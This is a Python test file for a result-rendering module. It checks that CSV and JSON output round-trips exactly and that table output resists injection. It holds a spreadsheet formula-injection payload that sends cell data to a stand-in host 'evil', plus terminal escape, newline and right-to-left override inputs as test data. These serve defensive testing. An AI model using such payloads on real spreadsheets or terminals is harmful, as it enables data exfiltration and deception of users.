"""Results as text: what scripts read is exact, what people read deceives nobody."""

import csv
import io
import json

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from tagger.show import arrow_as, facts_as_text, rows_as

KEYS = st.lists(st.text(st.characters(exclude_categories=("Cs",))), min_size=1, max_size=4)
FORMULA = '=HYPERLINK("http://evil/?"&A1)'


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@given(KEYS)
def test_csv_gives_a_script_every_key_back(keys):
    read = cells(rows_as([{"image_key": key, "n": 1} for key in keys], "csv"))
    assert read == [["image_key", "n"], *([key, "1"] for key in keys)]


@given(KEYS)
def test_json_gives_a_script_every_key_back(keys):
    assert json.loads(rows_as([{"image_key": key} for key in keys], "json")) == [{"image_key": key} for key in keys]


def test_csv_holds_a_formula_as_it_is_since_scripts_read_it():
    assert cells(rows_as([{"image_key": FORMULA, "n": 1}], "csv"))[1] == [FORMULA, "1"]


@pytest.mark.parametrize("style", ["csv", "json", "table"])
def test_a_file_name_that_is_no_utf8_can_be_written(style):
    text = rows_as([{"photo": "b\udcff.jpg", "n": 1}], style)
    text.encode()
    assert "b\\udcff.jpg" in text
    if style == "json":
        assert json.loads(text)[0]["photo"] == "b\udcff.jpg"


def test_columns_without_rows_are_quoted_too():
    answer = pa.table({"a,b": pa.array([], pa.string()), 'c"': pa.array([], pa.string())})
    assert cells(arrow_as(answer, "csv")) == [["a,b", 'c"']]


@pytest.mark.parametrize("key", ["a\nrow 2", "\x1b[31mred\x1b[0m", "a\u202egpj.exe", "a\0b", "k" * 1024])
def test_a_key_in_a_table_takes_one_line_and_commands_no_terminal(key):
    shown = rows_as([{"image_key": key}, {"image_key": "next"}], "table")
    assert len(shown.splitlines()) == 3 and all(line.isprintable() for line in shown.splitlines())


def test_a_fact_takes_one_line():
    assert facts_as_text({"photo": "a\nexit code  0", "color": "Red"}).splitlines() == [
        "photo  a\\nexit code  0",
        "color  Red",
    ]
